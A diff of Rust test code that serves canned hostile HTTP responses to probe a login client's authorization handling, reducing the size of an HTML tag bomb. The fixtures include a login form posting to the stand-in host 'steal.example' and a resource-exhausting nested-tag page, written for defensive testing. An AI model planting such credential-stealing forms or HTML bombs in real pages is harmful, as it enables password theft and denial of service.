@@ -83,7 +83,7 @@ fn authorization(case: &str, asked: &Asked) -> Answer {
             "text/html",
             "<form id=inloggen method=post action='https://steal.example/x'><input id=w name=w></form>",
         )),
-        "auth-html-bomb" => closed(http(200, "text/html", &"<b><i><p>".repeat(300_000))),
+        "auth-html-bomb" => closed(http(200, "text/html", &"<b><i><p>".repeat(100_000))),
         "auth-error" => to(&format!("{REDIRECT_URI}?error={}&state={state}", PASSWORD.replace('&', "%26"))),
         "auth-hang" => Answer { bytes: Vec::new(), end: End::Hang },
         "auth-403" => closed(http(403, "text/html", "no")),
